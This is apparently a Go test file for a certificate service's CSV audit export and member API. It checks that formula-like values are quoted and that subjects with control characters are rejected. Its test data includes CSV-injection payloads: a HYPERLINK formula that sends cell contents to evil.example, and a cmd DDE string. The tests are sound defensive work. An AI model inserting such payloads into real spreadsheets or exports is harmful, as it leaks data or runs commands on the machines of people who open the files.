package handlers_test

import (
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/labstack/echo/v4"

	"github.com/certdesk/certdesk/handlers"
	"github.com/certdesk/certdesk/models"
	"github.com/certdesk/certdesk/models/modelstest"
	"github.com/certdesk/certdesk/web"
)

// membersAndAuditServer serves POST /api/v1/orgs/{slug}/members and GET
// /api/v1/audit/export over store, through the web layer's error mapping,
// as an admin.
func membersAndAuditServer(t *testing.T, store *models.Store) *httptest.Server {
	t.Helper()
	e := echo.New()
	e.HTTPErrorHandler = web.ErrorHandler(nil)
	asAdmin := func(next echo.HandlerFunc) echo.HandlerFunc {
		return func(c echo.Context) error {
			c.SetRequest(c.Request().WithContext(models.WithActor(c.Request().Context(), adminActor)))
			return next(c)
		}
	}
	orgs := &handlers.Orgs{Store: store}
	audit := &handlers.Audit{Store: store}
	e.POST("/api/v1/orgs/:slug/members", orgs.AddMember, asAdmin)
	e.GET("/api/v1/audit/export", audit.Export, asAdmin)
	srv := httptest.NewServer(e)
	t.Cleanup(srv.Close)
	if err := store.CreateOrg(t.Context(), adminActor, &models.Organization{Slug: "acme", Name: "Acme", MaxValidityDays: 90}); err != nil {
		t.Fatal(err)
	}
	return srv
}

// addMember posts subject as a member of acme and returns the status.
func addMember(t *testing.T, srv *httptest.Server, subject string) int {
	t.Helper()
	body, _ := json.Marshal(map[string]string{"subject": subject})
	res, err := http.Post(srv.URL+"/api/v1/orgs/acme/members", echo.MIMEApplicationJSON, strings.NewReader(string(body)))
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	return res.StatusCode
}

// TestAuditExportCSV_FormulaLikeObjectIDs_AreNeutralised: membership
// subjects (accepted through the API) and object ids (a sign-in's ID-token
// subject, which no form validates) that start with =, +, -, @, a tab or a
// carriage return reach the CSV export prefixed with a quote, so that no
// spreadsheet reads them as formulas; encoding/csv reads them back whole.
func TestAuditExportCSV_FormulaLikeObjectIDs_AreNeutralised(t *testing.T) {
	modelstest.Each(t, func(t *testing.T, store *models.Store) {
		srv := membersAndAuditServer(t, store)
		members := []string{`=HYPERLINK("https://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"}
		for _, m := range members {
			if code := addMember(t, srv, m); code != http.StatusCreated {
				t.Fatalf("adding member %q: %d, want 201", m, code)
			}
		}
		// An ID token's subject becomes the object id of a failed sign-in.
		anon := models.Actor{Subject: "anonymous", Source: "203.0.113.5"}
		subjects := []string{"\t=1+1", "\r=1+1", "=cmd", "-cmd"}
		for _, s := range subjects {
			if err := store.Record(t.Context(), anon, "user", s, models.AuthLoginFailedEvent{Subject: s, Why: "bad_nonce"}); err != nil {
				t.Fatal(err)
			}
		}

		res, err := http.Get(srv.URL + "/api/v1/audit/export?format=csv")
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		if res.StatusCode != http.StatusOK {
			t.Fatalf("export: %d", res.StatusCode)
		}
		rows, err := csv.NewReader(res.Body).ReadAll()
		if err != nil {
			t.Fatalf("the export is not CSV that encoding/csv reads: %v", err)
		}
		col := map[string]int{}
		for i, h := range rows[0] {
			col[h] = i
		}
		got := map[string]bool{}
		for _, row := range rows[1:] {
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("row %v: cell %s = %q starts with a formula character", row[col["seq"]], rows[0][i], cell)
				}
			}
			got[row[col["object_type"]]+" "+row[col["object_id"]]] = true
		}
		for _, m := range members {
			if !got["membership '"+m] {
				t.Errorf("no membership row with object id %q (quoted); rows: %v", "'"+m, got)
			}
		}
		for _, s := range subjects {
			if !got["user '"+s] {
				t.Errorf("no sign-in row with object id %q (quoted); rows: %v", "'"+s, got)
			}
		}
	})
}

// TestOrgsAddMember_BadSubject_RefusedAndChangesNothing: a membership
// subject with a control character (which would start or break a CSV cell),
// surrounding spaces, or longer than 255 bytes is a 400 through the API, and
// neither a membership nor an audit event is recorded.
func TestOrgsAddMember_BadSubject_RefusedAndChangesNothing(t *testing.T) {
	modelstest.Each(t, func(t *testing.T, store *models.Store) {
		srv := membersAndAuditServer(t, store)
		before, _, err := store.ListAudit(t.Context(), models.AuditFilter{Limit: 500})
		if err != nil {
			t.Fatal(err)
		}
		tests := []struct{ name, subject string }{
			{"empty", ""},
			{"leading tab", "\t=1+1"},
			{"leading carriage return", "\r=1+1"},
			{"inner tab", "user\t=1"},
			{"inner carriage return", "user\r\n=1"},
			{"NUL", "user\x00"},
			{"C1 control", "user\u0085x"},
			{"escape", "user\x1b[31m"},
			{"leading space", " user"},
			{"256 bytes", strings.Repeat("a", 256)},
		}
		for _, tt := range tests {
			t.Run(tt.name, func(t *testing.T) {
				if code := addMember(t, srv, tt.subject); code != http.StatusBadRequest {
					t.Fatalf("subject %q: %d, want 400", tt.subject, code)
				}
			})
		}
		ms, err := store.ListMemberships(t.Context(), "")
		if err != nil || len(ms) != 0 {
			t.Fatalf("memberships after refused subjects: %v (err %v), want none", ms, err)
		}
		after, _, err := store.ListAudit(t.Context(), models.AuditFilter{Limit: 500})
		if err != nil || len(after) != len(before) {
			t.Fatalf("%d audit events after refused subjects, %d before (err %v)", len(after), len(before), err)
		}
		if code := addMember(t, srv, strings.Repeat("a", 255)); code != http.StatusCreated {
			t.Fatalf("a 255-byte subject: %d, want 201", code)
		}
	})
}
